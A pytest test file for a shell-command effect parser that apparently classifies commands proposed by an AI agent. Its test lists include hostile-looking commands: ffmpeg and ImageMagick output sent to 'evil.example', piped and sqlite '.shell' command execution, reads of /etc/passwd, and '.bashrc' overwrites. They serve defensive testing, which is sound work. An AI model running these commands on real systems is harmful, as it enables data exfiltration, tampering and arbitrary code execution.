"""Programs do what their manuals say, also by the options that are seldom used."""

import pytest

from llmasos.agent.commands import parse

ONLY_READS = [
    "tar -tvf a.tar --wildcards '*.txt'",
    "tar tzf a.tgz --exclude=b",
    "zcat a.gz | head",
    "find . -name '*.gz' | xargs zcat",
    "unzip -p a.zip f",
    "xxd -ps a | head",
    "xxd -c 8 -g1 -l 32 a",
    "jq --arg n foo '.x == $n' f",
    "jq -n --args '$x' a",
    "date -u +%F",
    "date -d yesterday '+%Y %m'",
    "hostname -I",
    "mktemp -d",
    "less -RN f",
    "git config user.name",
    "git config --global user.email",
    "git config list",
    "git remote",
    "git remote show",
    "git remote show -n origin",
    "git remote get-url origin",
    "git symbolic-ref --short HEAD",
    "git stash show -p",
    "git diff -b --stat",
    "git reflog",
    "pip list --format json",
    "pip --disable-pip-version-check show numpy",
    "npm ls --depth=0",
    "apt list --installed",
    "env -u FOO -C sub cat f",
    "env --ignore-environment cat f",
    "nice -10 ls",
    "timeout -v --signal=KILL 5 ls",
    "time -p ls",
    "ls | xargs -0 -r -P4 -I{} cat {}",
    "ls | xargs --max-lines cat",
    "sed --quiet --regexp-extended p f",
    "awk --posix -F: '{ print $1 }' f",
    "nm -D a.o",
    "bc -l f",
    "ffprobe -v error -show_entries format=duration -of csv=p=0 v.mov",
    "pandoc -f markdown -t latex a.md",
    "identify -format '%wx%h' a.png",
    "magick identify a.png",
    "pdftotext paper.pdf - | head",
    "pdfinfo paper.pdf",
    "fd -e md -d 2 foo src",
    "bat -n -r 1:5 a.py",
    "shellcheck -s bash *.sh",
    "yq -r .a f.yaml",
    "gojq -c .a f.json",
    "csvcut -c a,b x.csv | csvlook",
    "xmllint --noout *.xml",
    "codespell -L foo docs",
    "shfmt -d x.sh",
    "sqlite3 -bail a.db 'select 1'",
]

ANYTHING = [
    "tar tf a.tar --to-command='rm x'",
    "tar tf a.tar -I ./x",
    "tar xf a.tar --no-such=x",
    "tar cf a.tar -T list",
    "unzip -: a.zip",
    "zip -O .bashrc a.zip b",
    "zip --out=x a.zip b",
    "zstd --no-such f",
    "date 01010000",
    "date --se x",
    "hostname x",
    "setfattr --restore=f",
    "nm @f",
    "size @f",
    "less --lesskey-content=x f",
    "wdiff --auto-pager a b",
    "install --strip-program=./x a b",
    "git diff -b --ext-diff",
    "git help -w log",
    "pip show --no-such x",
    "env -a ls sh x.sh",
    "env --argv0=rm busybox x",
    "env --no-such ls",
    "exec -a rm busybox x",
    "xargs --process-slot-var=PATH ls",
    "xargs --no-such ls",
    "timeout --no-such rm ls",
    "setsid --no-such ls",
    "flock --no-such l ls",
    "script --no-such -c ls out",
    "fc",
    "curl --no-such=x https://a.example",
    "curl -w '%output{x}' https://a.example",
    "wget --no-such=x https://a.example",
    "rsync --rsh=./x a b",
    "rsync -M--no-such a b",
    "scp -S ./x a b",
    "pip $x",
    "ffmpeg -i a.mov -vf subtitles=x.srt b.mp4",
    'ffmpeg -i a.mov -vf "scale=1:2,movie=x" b.mp4',
    "ffmpeg -i a.mov -vf \"scale=1:2,'mov'ie=x\" b.mp4",
    "ffmpeg -f concat -i list.txt b.mp4",
    "ffmpeg -i concat:a b.mp4",
    "ffmpeg -i a.mov b.sh",
    "ffmpeg -i a.mov -f mp4 tcp:evil.example:80",
    "ffmpeg -i a.mov $x b.mp4",
    'ffmpeg -i a.mov -vf "$x" b.mp4',
    "ffmpeg -report -i a.mov b.mp4",
    "pandoc --lua-filter x.lua a.md -o b.html",
    "pandoc -F ./x a.md -o b.html",
    "pandoc -t x.lua a.md",
    "pandoc -f x.lua a.md",
    "pandoc -d x.yaml a.md -o b.html",
    "pandoc --pdf-engine=./x a.md -o b.html",
    "pandoc a.md -o b.pdf",
    "convert msl:x.png b.png",
    "convert ephemeral:x b.png",
    "convert a.png https://evil.example/b.png",
    "convert '|id' b.png",
    "convert @list.png b.png",
    "convert a.png -write x.sh b.png",
    "convert a.png -tile msl:x b.png",
    "magick -script x",
    "mogrify -resize 50% *.png",
    "fd foo -x rm",
    "fd foo --exec-batch rm",
    "bat --pager ./x f",
    "bat $x",
    "yq '.a = load(\"/etc/passwd\")' f",
    "yq -s .a f",
    "in2csv --write-sheets - a.xlsx",
    "sqlite3 a.db < schema.sql",
    "sqlite3 a.db '.shell rm x'",
    "sqlite3 a.db '.system rm x'",
    "sqlite3 a.db '.import \"|id\" t'",
    "sqlite3 -init x a.db 'select 1'",
    "sqlite3 -cmd '.shell rm x' a.db 'select 1'",
    "sqlite3 a.db 'attach \"x\" as y'",
    "sqlite3 a.db 'insert into t select load_extension(1)'",
    "sqlite3 a.db 'insert into t select writefile(1, 2)'",
    "sqlite3 a.db 'delete from t'",
]

WRITES = [
    ("tar tvf a.tar --index-file=out", ["out"]),
    ("tar tvf a.tar --index-fi out", ["out"]),
    ("tar tf a.tar --volno-file out", ["out"]),
    ("zstdcat -o out f", ["out"]),
    ("gzip -S rc -k .bash", [".bashrc"]),
    ("zstd -T0 f", ["f.zst"]),
    ("xxd -ps a out", ["out"]),
    ("xxd -r -p -cols 8 a out", ["out"]),
    ("mktemp sub/XXXX", ["sub/XXXX"]),
    ("mktemp -p sub", ["sub"]),
    ("blkid -c out", ["out"]),
    ("touch -m a b", ["a", "b"]),
    ("cp --suffix=rc -b a .bash", [".bash", ".bashrc"]),
    ("mv -S rc a .bash", [".bash", ".bashrc"]),
    ("cp -S .bak a b.txt", ["b.txt"]),
    ("git diff -b --output=out", ["out"]),
    ("git diff --outp out", ["out"]),
    ("git reflog show --output=out", ["out"]),
    ("git stash list --output=out", ["out"]),
    ("pip list --log=out", ["out"]),
    ("pip freeze --log out", ["out"]),
    ("env -C sub touch out", ["sub/out"]),
    ("env --chdir=sub touch out; touch here", ["sub/out", "here"]),
    ("strace -o out ls", ["out"]),
    ("find .git -name x -exec sed -i s/a/b/ {} +", [".git"]),
    ("ffmpeg -y -i a.mov -c:v libx264 -vf 'scale=1280:-2,fps=30' out/a.mp4", ["out/a.mp4"]),
    ("ffmpeg -i a.mov -filter_complex '[0:v]split[b][c]' -map '[b]' f/%04d.png", ["f/*.png"]),
    ("pandoc -s a.md -o a.html", ["a.html"]),
    ("pandoc a.md -o a.docx", ["a.docx"]),
    ("convert a.png -resize 50% b.png", ["b.png"]),
    ("magick a.png -strip b.jpg", ["b.jpg"]),
    ("mogrify -resize 50% img/*.png", ["img/*.png"]),
    ("mogrify -format jpg -path out img/*.png", ["out/*.jpg"]),
    ("pdftotext -layout a.pdf", ["a.txt"]),
    ("pdftoppm -png a.pdf out", ["out*"]),
    ("pdfunite a.pdf b.pdf c.pdf", ["c.pdf"]),
    ("yq -i '.a = 1' f.yaml", ["f.yaml"]),
    ("codespell -w docs", ["docs"]),
    ("dot -Tpng g.dot -o g.png", ["g.png"]),
    ("tesseract a.png out -l deu", ["out.*"]),
    ("jpegoptim --strip-all a.jpg", ["a.jpg"]),
    ("sqlite3 a.db 'create table t(x); insert into t values(1)'", ["a.db"]),
    ("sqlite3 a.db '.import x.csv t'", ["a.db"]),
]

HOSTS = [
    ("git remote show https://evil.example/x", ["evil.example"]),
    ("sftp evil.example", ["evil.example"]),
    ("sftp -i k user@evil.example:/x", ["evil.example"]),
    ("lynx -dump http://evil.example/x", ["evil.example"]),
    ("npm view secret", ["registry.npmjs.org"]),
    ("npm view x --registry=http://evil.example", ["evil.example"]),
    ("pip list --outdated --index-url http://evil.example", ["evil.example"]),
    ("curl --socks4a evil.example https://a.example", ["a.example", "evil.example"]),
    ("ffmpeg -i http://evil.example/x a.mp4", ["evil.example"]),
    ("pandoc http://evil.example/x -o a.md", ["evil.example"]),
    ("pandoc a.md -o a.docx", []),
    ("pandoc a.html -o a.md", []),
    ("pandoc --citeproc a.md -o a.txt", []),
]

CHANGES = [
    "git remote -v add a https://a.example",
    "git remote --verbose set-url a https://a.example",
    "git symbolic-ref HEAD --delete",
    "git config core.hooksPath list",
    "git config alias.x get",
    "git config --unset user.name",
    "git fsck --lost-found",
    "wget -r -nH https://a.example",
]

READS = [
    "jq --rawfile a /etc/passwd -n '$a'",
    "jq --slurpfile a /etc/passwd . f",
    "grep --color a /etc/passwd",
    "ls --color /etc/passwd",
    "diff --unified /etc/passwd a",
    "diff --from-file=/etc/passwd a",
    "strings -w /etc/passwd",
    "od -s /etc/passwd",
    "stat -t /etc/passwd",
    "du -x /etc/passwd",
    "bc /etc/passwd",
    "tar cf a.tar --verbatim-files-from -T /etc/passwd",
]


@pytest.mark.parametrize("command", ONLY_READS)
def test_options_that_only_read_are_known(command: str) -> None:
    program = parse(command)
    assert program.effects == {"reads"}, program.why
    assert not program.dynamic, program.why


@pytest.mark.parametrize("command", ANYTHING)
def test_options_that_are_not_known_may_do_anything(command: str) -> None:
    assert "unknown" in parse(command).effects


@pytest.mark.parametrize(("command", "paths"), WRITES)
def test_options_that_write_are_known(command: str, paths: list[str]) -> None:
    program = parse(command)
    assert "writes" in program.effects
    assert sorted(program.writes) == sorted(paths)


@pytest.mark.parametrize(("command", "hosts"), HOSTS)
def test_options_that_reach_hosts_are_known(command: str, hosts: list[str]) -> None:
    program = parse(command)
    assert "network" in program.effects
    assert sorted(program.hosts) == hosts


@pytest.mark.parametrize("command", CHANGES)
def test_what_only_seems_to_look_changes_something(command: str) -> None:
    assert "writes" in parse(command).effects


@pytest.mark.parametrize("command", READS)
def test_no_option_hides_what_is_read(command: str) -> None:
    assert "/etc/passwd" in parse(command).reads


@pytest.mark.parametrize(
    ("command", "line"),
    [
        ("git remote -v add a b", "git remote add a b"),
        ("git submodule --quiet add a", "git submodule add a"),
        ("npm --prefix sub config set a b", "npm config set a b"),
        ("npm --prefix sub run build", "npm run build --prefix sub"),
        ("npm --script-shell=./x run build", "npm run build --script-shell=./x"),
        ("npm run build", "npm run build"),
        ("pip --isolated config set a b", "pip config set a b"),
    ],
)
def test_commands_are_named_without_the_options_before_them(command: str, line: str) -> None:
    assert line in [each.line for each in parse(command).commands]


@pytest.mark.parametrize(
    "command",
    [
        "pytest -v",
        "pytest --help",
        "tox -v",
        "ninja -v",
        "ctest -V",
        "make version",
        "flask --help",
        "yarn --version",
        "npm help",
    ],
)
def test_asking_a_program_who_it_is_may_run_the_folder(command: str) -> None:
    assert "executes" in parse(command).effects


@pytest.mark.parametrize(
    "command", ["node --version", "node -v", "make --version", "gcc --version", "ruff --help"]
)
def test_asking_a_program_who_it_is_reads(command: str) -> None:
    assert parse(command).effects == {"reads"}


@pytest.mark.parametrize("command", ["pnpm build", "yarn lint", "yarn run x", "npm --prefix sub test"])
def test_scripts_of_the_folder_reach_no_index(command: str) -> None:
    assert parse(command).effects == {"executes"}
